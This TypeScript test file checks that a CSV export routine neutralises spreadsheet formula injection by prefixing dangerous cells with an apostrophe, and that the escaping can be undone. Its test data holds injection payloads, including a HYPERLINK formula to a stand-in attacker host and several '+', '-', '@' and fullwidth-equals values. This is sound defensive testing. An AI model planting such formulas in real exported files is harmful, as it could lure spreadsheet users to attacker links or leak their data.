import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { tempConfigHome, testContext } from '../../test/fixtures/cli-io.js';
import { unescapeFormula, writeCsv, type CsvRow } from './csv-export.js';

describe('writeCsv()', () => {
  const home = tempConfigHome();
  after(() => home.remove());

  async function csvOf(rows: CsvRow[]): Promise<string> {
    const ctx = testContext('http://127.0.0.1:9', home.dir);
    async function* each() {
      yield* rows;
    }
    await writeCsv(ctx, ['title', 'username', 'total'], each());
    return ctx.io.stdoutText();
  }

  const formulas = ['=HYPERLINK("http://evil.example/?x","click")', '+1+1', '-1-1', '@SUM(A1)', '\tx', '\uFF1Dcmd'];

  it('writes a cell that a spreadsheet would run as a formula with a leading \', as the services\' CSV files do', async () => {
    const rows = parse(await csvOf(formulas.map((title) => ({ title, username: '-2-3', total: 10 }))), { columns: true }) as Record<string, string>[];
    assert.deepEqual(
      rows.map((r) => [r.title, r.username]),
      formulas.map((f) => [`'${f}`, "'-2-3"]),
    );
    assert.ok(rows.every((r) => r.total === '10'), 'numbers are left as they are');
  });

  it('leaves other cells alone, and unescapeFormula() gives back every cell it wrote', async () => {
    const titles = [...formulas, 'Clean Code', "'quoted", "'", 'a=b'];
    const rows = parse(await csvOf(titles.map((title) => ({ title, username: 'ann', total: 1 }))), { columns: true }) as Record<string, string>[];
    assert.deepEqual(rows.slice(formulas.length).map((r) => r.title), ['Clean Code', "'quoted", "'", 'a=b']);
    assert.deepEqual(rows.map((r) => unescapeFormula(r.title)), titles);
  });
});
